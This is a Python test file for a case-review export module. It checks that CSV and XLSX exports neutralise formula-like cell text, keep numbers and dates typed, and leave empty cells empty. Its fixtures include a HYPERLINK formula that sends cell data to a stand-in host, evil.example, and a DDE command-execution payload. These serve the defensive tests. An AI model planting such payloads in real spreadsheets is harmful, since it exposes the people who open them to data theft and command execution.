"""Exports neutralise formula-like text, keep numbers and dates typed, and leave empty cells empty.

Django-free: these run with `-p no:django`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from casereview.tabular.export import Sheet, csv_bytes, safe_cell, write_csv, xlsx_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'


@pytest.mark.parametrize(
    "value, exported",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-5 + 3", "'-5 + 3"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Strategy discussion = agreed", "Strategy discussion = agreed"),
        ("", ""),
        (None, None),
        (-5, -5),
        (2.5, 2.5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (True, True),
        (dt.date(2019, 4, 3), dt.date(2019, 4, 3)),
        (dt.datetime(2019, 4, 3, 22, 40), dt.datetime(2019, 4, 3, 22, 40)),
    ],
)
def test_safe_cell_neutralises_formula_text_and_leaves_everything_else_as_it_is(value, exported):
    assert safe_cell(value) == exported
    assert type(safe_cell(value)) is type(exported)


def test_a_value_that_is_not_text_or_a_number_is_exported_as_its_safe_text():
    class Label:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Label()) == "'=1+1"


ROWS = [
    ["Date", "Event", "Count", "Note"],
    [dt.date(2019, 4, 3), HOSTILE, -5, None],
    [dt.date(2019, 4, 5), "Home visit", 2, ""],
]


def test_the_csv_writer_neutralises_formulas_keeps_numbers_and_leaves_empty_cells_empty():
    buffer = io.StringIO()
    write_csv(ROWS, buffer, date_format="%d/%m/%Y")
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["Date", "Event", "Count", "Note"],
        ["03/04/2019", "'" + HOSTILE, "-5", ""],
        ["05/04/2019", "Home visit", "2", ""],
    ]


def test_csv_bytes_start_with_a_bom_so_excel_reads_utf8_and_write_iso_dates_by_default():
    data = csv_bytes([["Café", dt.date(2019, 4, 3), dt.datetime(2019, 4, 3, 22, 40)]])
    assert data == "\ufeffCafé,2019-04-03,2019-04-03 22:40\r\n".encode()


def test_the_xlsx_writer_neutralises_formulas_and_keeps_numbers_and_dates_typed():
    data = xlsx_bytes([Sheet("Chronology", ROWS[1:], header=ROWS[0]), Sheet("Summary", [["Total", 2]])])
    book = load_workbook(io.BytesIO(data))
    sheet = book["Chronology"]
    assert [c.value for c in sheet[1]] == ["Date", "Event", "Count", "Note"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    date, event, count, note = sheet[2]
    assert date.value == dt.datetime(2019, 4, 3) and date.is_date and date.number_format == "dd/mm/yyyy"
    assert event.value == "'" + HOSTILE and event.data_type == "s"
    assert count.value == -5 and count.data_type == "n"
    assert note.value is None
    assert sheet["D3"].value is None  # "" stays empty, not an empty text cell
    assert [c.value for c in book["Summary"][1]] == ["Total", 2]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_an_aware_datetime_is_written_with_its_wall_clock_time():
    tz = dt.timezone(dt.timedelta(hours=1))
    data = xlsx_bytes([Sheet("Log", [[dt.datetime(2019, 4, 3, 22, 40, tzinfo=tz)]])])
    assert load_workbook(io.BytesIO(data))["Log"]["A1"].value == dt.datetime(2019, 4, 3, 22, 40)
